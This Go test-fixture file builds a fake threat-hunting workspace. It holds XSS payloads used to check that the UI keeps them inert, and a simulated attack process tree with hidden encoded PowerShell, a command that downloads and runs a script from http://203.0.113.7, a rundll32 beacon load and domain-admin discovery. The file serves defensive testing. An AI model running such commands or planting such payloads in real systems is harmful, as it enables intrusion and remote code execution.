package servertest

import (
	"fmt"
	"sync"
	"time"

	"github.com/huntbook/huntbook/table"
)

// XSS payloads the fake workspace carries in names and values, so the
// browser tests can check they stay inert wherever they show.
const (
	XSSColumn = `<img src=x onerror="window.__xss=1">`
	XSSValue  = `<script>window.__xss=2</script><img src=x onerror="window.__xss=3">`
	XSSTitle  = `<svg onload="window.__xss=4">`
)

// BigRows is the row count of the Big table (the grid's scrolling test).
const BigRows = 1_000_000

// epoch is the fixed clock of the fake data.
var epoch = time.Date(2024, 3, 4, 0, 0, 0, 0, time.UTC)

// tables builds the fake workspace's tables on first use (Big is large).
type tables struct {
	once sync.Once
	m    map[string]*table.Table
	list []string
}

func (ts *tables) get() (map[string]*table.Table, []string) {
	ts.once.Do(func() {
		ts.m = map[string]*table.Table{
			"SecurityEvent": securityEvents(),
			"ProcessEvents": processEvents(),
			"Evil":          evil(),
			"Big":           big(),
		}
		ts.list = []string{"SecurityEvent", "ProcessEvents", "Big", "Evil"}
	})
	return ts.m, ts.list
}

var hosts = []string{"WS5.contoso.local", "DC01.contoso.local", "WS12.contoso.local", "SRV-SQL.contoso.local"}
var accounts = []string{`CONTOSO\alice`, `CONTOSO\bob`, `CONTOSO\svc_backup`, `CONTOSO\O'Brien`}

func securityEvents() *table.Table {
	t := &table.Table{Columns: []table.Column{
		{Name: "TimeGenerated", Type: table.DateTime},
		{Name: "Computer", Type: table.String},
		{Name: "EventID", Type: table.Int},
		{Name: "Account", Type: table.String},
		{Name: "CommandLine", Type: table.String},
		{Name: "Details", Type: table.Dynamic},
	}}
	ids := []int32{4624, 4625, 4688, 4624, 4672}
	for i := range 5000 {
		details, _ := table.ParseDynamic(fmt.Sprintf(`{"LogonType":%d,"Ip":"10.0.%d.%d","Tags":["a","b"]}`, i%11, i%7, i%200))
		cmd := ""
		if ids[i%5] == 4688 {
			cmd = fmt.Sprintf(`powershell.exe -nop -w hidden -enc SQBFAFgA%04d`, i)
		}
		t.Rows = append(t.Rows, []any{
			epoch.Add(time.Duration(i) * 37 * time.Second), hosts[i%len(hosts)], ids[i%5],
			accounts[(i/3)%len(accounts)], cmd, details,
		})
	}
	return t
}

func processEvents() *table.Table {
	t := &table.Table{Columns: []table.Column{
		{Name: "TimeGenerated", Type: table.DateTime},
		{Name: "Computer", Type: table.String},
		{Name: "ProcessKey", Type: table.String},
		{Name: "ParentKey", Type: table.String},
		{Name: "ProcessName", Type: table.String},
		{Name: "CommandLine", Type: table.String},
	}}
	procs := []struct{ key, parent, name, cmd string }{
		{"p1", "", `C:\Windows\System32\services.exe`, `services.exe`},
		{"p2", "p1", `C:\Windows\System32\svchost.exe`, `svchost.exe -k netsvcs`},
		{"p3", "p1", `C:\Windows\System32\svchost.exe`, `svchost.exe -k DcomLaunch`},
		{"p4", "p3", `C:\Windows\System32\wbem\WmiPrvSE.exe`, `WmiPrvSE.exe -Embedding`},
		{"p5", "p4", `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, `powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA`},
		{"p6", "p5", `C:\Windows\System32\cmd.exe`, `cmd.exe /c whoami /all`},
		{"p7", "p5", `C:\Windows\System32\rundll32.exe`, `rundll32.exe C:\Users\Public\beacon.dll,Start`},
		{"p8", "p7", `C:\Windows\System32\net.exe`, `net group "Domain Admins" /domain`},
		{"p9", "", `C:\Windows\explorer.exe`, `explorer.exe`},
		{"p10", "p9", `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`, `WINWORD.EXE /n invoice.docm`},
		{"p11", "p10", `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, `powershell.exe -c "IEX (iwr http://203.0.113.7/a.ps1)"`},
	}
	for i, p := range procs {
		t.Rows = append(t.Rows, []any{epoch.Add(time.Duration(i) * time.Minute), "WS5.contoso.local", p.key, p.parent, p.name, p.cmd})
	}
	return t
}

func evil() *table.Table {
	dyn, _ := table.ParseDynamic(`{"<b>x</b>":"<img src=x onerror=\"window.__xss=5\">"}`)
	return &table.Table{
		Columns: []table.Column{{Name: XSSColumn, Type: table.String}, {Name: "Payload", Type: table.Dynamic}, {Name: "N", Type: table.Long}},
		Rows: [][]any{
			{XSSValue, dyn, int64(3)},
			{`"><svg/onload=window.__xss=6>`, nil, int64(5)},
			{`javascript:window.__xss=7`, nil, int64(2)},
		},
	}
}

// big is a million rows; values come from small pools so it stays cheap.
func big() *table.Table {
	t := &table.Table{Columns: []table.Column{
		{Name: "Id", Type: table.Long},
		{Name: "TimeGenerated", Type: table.DateTime},
		{Name: "Host", Type: table.String},
		{Name: "Bytes", Type: table.Long},
	}}
	rows := make([][]any, BigRows)
	vals := make([]any, BigRows*4)
	for i := range rows {
		r := vals[i*4 : i*4+4 : i*4+4]
		r[0] = int64(i)
		r[1] = epoch.Add(time.Duration(i) * time.Second)
		r[2] = hosts[i%len(hosts)]
		r[3] = int64((i * 7919) % 100000)
		rows[i] = r
	}
	t.Rows = rows
	return t
}
